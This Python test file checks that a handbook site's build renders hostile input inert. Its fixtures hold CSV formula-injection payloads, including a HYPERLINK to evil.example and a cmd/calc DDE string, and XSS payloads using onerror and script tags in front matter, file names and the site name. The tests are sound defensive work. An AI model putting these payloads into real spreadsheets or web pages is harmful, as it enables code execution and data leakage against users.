"""Whatever text reaches the build's output is inert there: a spreadsheet opens every CSV cell as text, no page
prints front matter, a file name or a site setting as markup, the search index is valid JSON that every query
can read (and the same bytes for the same pages), and a glossary tooltip never lands inside a character
reference, a tag or code.

These tests hold the output to it even where ``check`` would stop the input first (its front matter rules are
tested with the data): the page-level cases are built with ``check``'s project rules switched off.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import math
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hostile_support import apply, run_command, tree_digest, valid_project_copy

from macros.data.lint import HAN

ACTIVITIES = "data/activities.yaml"
RM = "data/roles/risk-manager.yaml"
FAQ = "handbook/faq.md"
MAINTAINERS = "handbook/maintainers/index.md"
FORMULAS = ("=", "+", "-", "@", "\t", "\r")

# --- The RACI spreadsheet ------------------------------------------------------------------------------------

# A formula in every kind of cell: activity, reason, phase, party and role (the role's name is also the
# accountable cell).
HYPERLINK = '=HYPERLINK("http://evil.example/?x","x")'
CSV_CELLS = {
    "activity": HYPERLINK,
    "reason": "+1+cmd|' /C calc'!A0",
    "phase": "-2+3",
    "party": "@SUM(1+1)",
    "role": "=1+1",
}
CSV_EDITS = (
    ("replace", ACTIVITIES, "    name: 制定项目章程\n", "    name: '=HYPERLINK(\"http://evil.example/?x\",\"x\")'\n"),
    ("replace", ACTIVITIES, "reason: 章程由项目经理牵头落实。", "reason: \"+1+cmd|' /C calc'!A0\""),
    ("replace", ACTIVITIES, "    name: 启动\n", "    name: '-2+3'\n"),
    ("replace", ACTIVITIES, "\nactivities:\n", "\nparties:\n  - id: sponsor\n    name: '@SUM(1+1)'\n"
                                               "    name_en: Sponsor\n    description: 出资方。\nactivities:\n"),
    ("replace", ACTIVITIES, "      risk-manager: R\n    reason: \"+1", "      risk-manager: R\n      sponsor: I\n"
                                                                    "    reason: \"+1"),
    ("replace", RM, "name: 角色 risk-manager", "name: '=1+1'"),
)


@pytest.fixture(scope="module")
def csv_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = valid_project_copy(tmp_path_factory.mktemp("csv") / "project")
    apply(project, CSV_EDITS)
    built = run_command(project, "build", timeout=300)
    assert built.status == 0 and not built.crashed, built.output
    return project / "site"


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.slow
@pytest.mark.parametrize("kind", CSV_CELLS)
def test_a_formula_in_any_cell_opens_as_text(csv_site: Path, kind: str) -> None:
    cells = [cell for row in csv_rows((csv_site / "api/raci.csv").read_text(encoding="utf-8-sig")) for cell in row]
    value = CSV_CELLS[kind]
    assert "'" + value in cells, f"{kind}: {value!r} is not in the CSV as text"
    assert value not in cells, f"{kind}: {value!r} is in the CSV as a formula"
    assert not [cell for cell in cells if cell.startswith(FORMULAS)], cells


@pytest.mark.slow
def test_the_json_export_keeps_the_text_exactly(csv_site: Path) -> None:
    raci = json.loads((csv_site / "api/raci.json").read_text(encoding="utf-8"))
    assert raci["activities"][0]["name"] == CSV_CELLS["activity"]
    assert raci["activities"][0]["reason"] == CSV_CELLS["reason"]
    assert raci["phases"][0]["name"] == CSV_CELLS["phase"]
    assert [party["name"] for party in raci["parties"]] == [CSV_CELLS["party"]]
    assert {role["name"] for role in raci["roles"]} >= {CSV_CELLS["role"]}


@pytest.mark.parametrize("start", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage return"])
def test_every_cell_that_would_start_a_formula_gets_a_quote(start: str) -> None:
    from macros.site.export import spreadsheet_cell

    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["启动", "A", "", "R&D", "project-charter", "1+1", "'=already quoted"])
def test_ordinary_cells_are_left_as_they_are(text: str) -> None:
    from macros.site.export import spreadsheet_cell

    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize("name, reason", [("\t=1+1", "\r=2+2"), ("\r@A1", "\t-1")], ids=["tab", "carriage return"])
def test_tab_and_carriage_return_cells_open_as_text(handbook_minimal, name: str, reason: str) -> None:
    """The data rules may refuse or strip these; the CSV does not depend on it."""
    from macros.site.export import raci_csv

    activities = handbook_minimal.activities
    first = activities.activities[0].model_copy(update={"name": name, "reason": reason})
    changed = dataclasses.replace(handbook_minimal, activities=activities.model_copy(
        update={"activities": (first, *activities.activities[1:])}))
    cells = [cell for row in csv_rows(raci_csv(changed)) for cell in row]
    assert "'" + name in cells and "'" + reason in cells, cells
    assert not [cell for cell in cells if cell.startswith(FORMULAS)], cells


@pytest.fixture
def handbook_minimal(tmp_path: Path):
    from macros.data.read import load_handbook

    return load_handbook(valid_project_copy(tmp_path / "project")).handbook


# --- Front matter, file names and site settings on the pages ------------------------------------------------

PAYLOAD = "window.__pwned=1"
IMG = f"<img src=x onerror={PAYLOAD}>"
PAGE_EDITS = (
    # Printed raw by Material in every page's navigation (subtitle), in a class (status), in the head (author).
    ("prepend-front-matter", FAQ, {"title_en": "FAQ", "subtitle": IMG, "status": f'new" onmouseover="{PAYLOAD}',
                                   "author": [IMG], "description": IMG}),
    # A title that mkdocs-macros renders (it has {{ }}) into the page's title.
    ("prepend-front-matter", "handbook/skills.md", {"title": '{{ "' + IMG + '" }}'}),
    # A page whose file name is markup: it goes into the edit link's address.
    ("write", f'handbook/maintainers/x"><img src=x onerror={PAYLOAD}>.md', "# 测试页\n\n正文。\n"),
    ("replace", "mkdocs.yml", "site_name: 项目管理手册",
     f"site_name: '项目管理手册</title><script>{PAYLOAD}</script>'"),
)
# Markup, and a path that a browser would read as another host, in the address of the site.
SITE_URL = f'https://x.example//evil.example/"><script>{PAYLOAD}</script>/'

# `python -m mkdocs build` with check's project rules switched off: what the output does with input that a
# future rule might miss.
UNCHECKED_BUILD = (
    "import sys, macros.maintain.consistency as rules\n"
    "rules.project_problems = lambda *args, **kwargs: []\n"
    "from mkdocs.__main__ import cli\n"
    "sys.argv = ['mkdocs', 'build', '--strict', '--site-dir', sys.argv[1]]\n"
    "cli()\n"
)


@pytest.fixture(scope="module")
def page_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = valid_project_copy(tmp_path_factory.mktemp("pages") / "project")
    apply(project, PAGE_EDITS)
    site = project / "site"
    environment = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SITE_URL": SITE_URL}
    result = subprocess.run([sys.executable, "-c", UNCHECKED_BUILD, str(site)], cwd=project, capture_output=True,
                            text=True, timeout=300, env=environment)
    assert result.returncode == 0, result.stdout + result.stderr
    return site


def pages_of(site: Path) -> list[tuple[str, BeautifulSoup]]:
    return [(path.relative_to(site).as_posix(), BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser"))
            for path in sorted(site.rglob("*.html"))]


@pytest.mark.slow
def test_no_page_carries_markup_from_front_matter_file_names_or_settings(page_site: Path) -> None:
    found = []
    for name, soup in pages_of(page_site):
        for tag in soup.find_all(True):
            handlers = [attribute for attribute in tag.attrs if attribute.lower().startswith("on")]
            if handlers or (tag.name == "img" and tag.get("src") == "x"):
                found.append(f"{name}: <{tag.name} {' '.join(handlers)}>")
            if tag.name == "script" and PAYLOAD in (tag.string or "") and tag.get("type") != "application/ld+json":
                found.append(f"{name}: <script>{PAYLOAD}</script>")
            for attribute in ("href", "src"):  # addresses are well-formed: no quote or bracket even decoded
                if any(mark in str(tag.get(attribute, "")) for mark in '<>"'):
                    found.append(f"{name}: <{tag.name} {attribute}={str(tag[attribute])[:60]!r}>")
    assert not found, found[:10]
    assert len(list(page_site.rglob("*.html"))) > 10


@pytest.mark.slow
def test_the_markup_is_shown_as_text(page_site: Path) -> None:
    """Inert, not dropped: the reader sees what was written."""
    soup = BeautifulSoup((page_site / "index.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.title.get_text() == f"项目管理手册</title><script>{PAYLOAD}</script>"
    subtitles = [node.get_text() for node in soup.select("nav small")]
    assert IMG in subtitles, subtitles
    faq = BeautifulSoup((page_site / "faq/index.html").read_text(encoding="utf-8"), "html.parser")
    assert faq.find("meta", attrs={"name": "description"})["content"] == IMG


@pytest.mark.slow
def test_addresses_are_well_formed_and_stay_on_the_site(page_site: Path) -> None:
    page = next(page_site.glob("maintainers/x*/index.html"))
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    edit = soup.find("a", attrs={"rel": "edit"})["href"]
    assert edit.startswith("https://github.com/pm-handbook/handbook/edit/main/handbook/maintainers/x%22%3E%3Cimg"), edit
    home = BeautifulSoup((page_site / "index.html").read_text(encoding="utf-8"), "html.parser")
    for tag, attribute, where in (("link", "href", {"rel": "canonical"}), ("meta", "content", {"property": "og:image"}),
                                  ("meta", "content", {"name": "twitter:image"})):
        address = home.find(tag, attrs=where)[attribute]
        assert address.startswith("https://x.example//evil.example/%22%3E%3Cscript%3E"), (where, address)
    base = re.search(r'<base href="([^"]*)">', (page_site / "404.html").read_text(encoding="utf-8")).group(1)
    assert base.startswith("/") and not base.startswith("//") and "<" not in base, base


# --- The search index ----------------------------------------------------------------------------------------


def entries(boost=None) -> list[dict]:
    """Material's search entries of two small pages (the second with a boost, when given)."""
    second = {"location": "maintainers/", "title": "维护者指南", "text": "如何新增岗位、修改 RACI。"}
    if boost is not None:
        second["boost"] = boost
    return [{"location": "", "title": "项目管理手册", "text": "岗位职责与技能，PMP 与 Scrum。"},
            {"location": "#roles", "title": "岗位列表", "text": "项目经理、风险经理。"}, second]


@pytest.mark.parametrize("boost", [math.nan, math.inf, -math.inf, "nan", "1e309", "abc", True, [2], {"x": 1}],
                         ids=["nan", "infinity", "minus infinity", "nan text", "too large", "word", "boolean",
                              "list", "mapping"])
def test_the_index_refuses_a_boost_that_is_not_a_finite_number(tmp_path: Path, boost) -> None:
    from macros.site.search_index import SearchIndexError, build

    with pytest.raises(SearchIndexError) as refused:
        build(entries(boost), tmp_path / "search")
    message = str(refused.value)
    assert message.startswith("页面 maintainers/ search.boost：应为一个数"), message
    assert not (tmp_path / "search" / "index.json").exists()


@pytest.mark.parametrize("boost", [0.3, 2, "2", "0.5"])
def test_the_index_is_strict_json_with_a_finite_boost(tmp_path: Path, boost) -> None:
    from macros.site.search_index import build

    build(entries(boost), tmp_path / "search")
    def refuse(name: str) -> None:
        raise AssertionError(f"{name} in the index")

    for path in (tmp_path / "search").rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse)
    pages = json.loads((tmp_path / "search/index.json").read_text(encoding="utf-8"))["pages"]
    assert pages[-1] == ["maintainers/", "维护者指南", 2, float(boost)]


@pytest.mark.parametrize("search, field", [({"boost": math.nan}, "search.boost"), ({"boost": "abc"}, "search.boost"),
                                           ({"boost": math.inf}, "search.boost"), ("abc", "search")],
                         ids=["nan", "word", "infinity", "not a mapping"])
def test_the_index_names_the_page_file_of_a_bad_boost(tmp_path: Path, search, field) -> None:
    """Checked as each page is taken into the index, where its file is known."""
    from macros.site.search_index import PageSections, SearchIndexError

    sections = PageSections(tmp_path / "site", "bigram")
    page = ("maintainers/", "<h1 id='x'>维护者指南</h1><p>正文</p>")
    with pytest.raises(SearchIndexError) as refused:
        sections.add(*page, {"search": search}, "维护者指南", "handbook/maintainers/index.md")
    assert str(refused.value).startswith(f"handbook/maintainers/index.md {field}：应为"), str(refused.value)
    sections.add(*page, {"search": {"boost": 2}}, "维护者指南", "handbook/maintainers/index.md")
    assert [entry["boost"] for entry in sections.made["maintainers/"]] == [2]


@pytest.mark.slow
@pytest.mark.parametrize("boost", [".nan", "1e309", "abc"])
def test_a_build_with_a_bad_boost_stops_and_keeps_the_last_good_site(tmp_path: Path, boost: str) -> None:
    project = valid_project_copy(tmp_path / "project")
    assert run_command(project, "build", timeout=300).status == 0
    before = tree_digest(project / "site")
    apply(project, [("replace", MAINTAINERS, "boost: 0.3", f"boost: {boost}")])
    answer = run_command(project, "build", timeout=300)
    assert answer.status == 1 and not answer.crashed, answer.output
    assert "Traceback (most recent call last)" not in answer.output
    assert re.search(rf"{re.escape(MAINTAINERS)}(:\d+:\d+)? search\.boost：应为", answer.output), answer.output
    assert tree_digest(project / "site") == before


@pytest.mark.slow
@pytest.mark.parametrize("value", ["bogus", "BIGRAMS", "lunr"])
def test_an_unknown_search_engine_is_named_with_the_allowed_values(tmp_path: Path, value: str) -> None:
    project = valid_project_copy(tmp_path / "project")
    answer = run_command(project, "build", timeout=300, env={"HANDBOOK_SEARCH_ENGINE": value})
    assert answer.status == 1 and not answer.crashed, answer.output
    assert "Traceback (most recent call last)" not in answer.output
    message = next((line for line in answer.output.splitlines() if "HANDBOOK_SEARCH_ENGINE" in line), "")
    assert value.lower() in message and "bigram" in message and "pagefind" in message, answer.output
    assert re.search(f"[{HAN}]", message), message
    assert not (project / "site").exists()


WRITE_INDEX = (
    "import json, sys\n"
    "from pathlib import Path\n"
    "from macros.site.search_index import build\n"
    "build(json.loads(Path(sys.argv[1]).read_text(encoding='utf-8')), Path(sys.argv[2]))\n"
)


def test_the_same_pages_give_the_same_index_bytes(tmp_path: Path) -> None:
    """Written twice from the same entries, in processes whose string hashes (and so set orders) differ."""
    from conftest import ROOT

    titles = ["项目经理 PMP Scrum 风险登记册", "敏捷教练 Kanban 迭代评审", "产品经理 PRD 用户故事 路线图",
              "发布经理 CI CD 灰度发布"]
    # Title words that the text does not have: the index used to list those in set order.
    source = [{"location": f"page-{n}/#s{m}", "title": f"{title} {m}", "text": f"第 {m} 节：职责、技能与协作。"}
              for n, title in enumerate(titles) for m in range(20)]
    (tmp_path / "entries.json").write_text(json.dumps(source, ensure_ascii=False), encoding="utf-8")
    digests = []
    for seed in ("1", "2", "3"):
        target = tmp_path / f"search-{seed}"
        subprocess.run([sys.executable, "-c", WRITE_INDEX, str(tmp_path / "entries.json"), str(target)], cwd=ROOT,
                       env={**os.environ, "PYTHONHASHSEED": seed}, check=True, timeout=120)
        digests.append(tree_digest(target))
    assert digests[0] and len(set(digests)) == 1


# --- Glossary tooltips ---------------------------------------------------------------------------------------

# Terms that are also the names of references, attributes and elements, and the digits of a reference.
TRICKY_TERMS = ("lt", "gt", "amp", "quot", "nbsp", "href", "abbr", "code", "x27", "39")


def tricky_matcher():
    from macros.data.models import Term
    from macros.site.tooltips import TermMatcher

    return TermMatcher([Term(id=f"term-{n}", term=term, description=f"术语 {term} 的说明。")
                        for n, term in enumerate(TRICKY_TERMS)])
TOOLTIP_HTML = [
    ("named references", "<p>5 &lt; 6 &gt; 4 &amp; 3 &quot;x&quot; a&nbsp;b</p>"),
    ("numeric references", "<p>&#39;x&#39; &#x27;y&#x27; &#X27;</p>"),
    ("reference without its semicolon", "<p>a &lt b &amp c</p>"),
    ("attribute values", '<p><img alt="lt amp href abbr code" src="x.png"><span title="&lt;code&gt;">说明</span></p>'),
    ("tag names", '<p><abbr title="已有">ABC</abbr><a href="x">链接</a></p>'),
    ("code and pre", "<p><code>lt amp href &lt;abbr&gt;</code></p><pre><code>code &amp;&amp; href</code></pre>"),
    ("comments", "<p><!-- lt amp href code --> 正文</p>"),
]


@pytest.mark.parametrize("name, html", TOOLTIP_HTML, ids=[name for name, _ in TOOLTIP_HTML])
def test_no_tooltip_inside_a_reference_a_tag_or_code(name: str, html: str) -> None:
    matcher = tricky_matcher()
    assert matcher.annotate(html) == html


def test_the_same_terms_in_running_text_get_their_tooltips() -> None:
    """Not a matcher that gave up: between references and tags, the terms are found."""
    matcher = tricky_matcher()
    html = "<p>&lt;lt&gt; 写 href 与 abbr、code、amp；&amp;</p>"
    annotated = matcher.annotate(html)
    soup = BeautifulSoup(annotated, "html.parser")
    assert [node.get_text() for node in soup.find_all("abbr")] == ["lt", "href", "abbr", "code", "amp"]
    assert soup.get_text() == BeautifulSoup(html, "html.parser").get_text()
    assert re.sub(r"</?abbr[^>]*>", "", annotated) == html
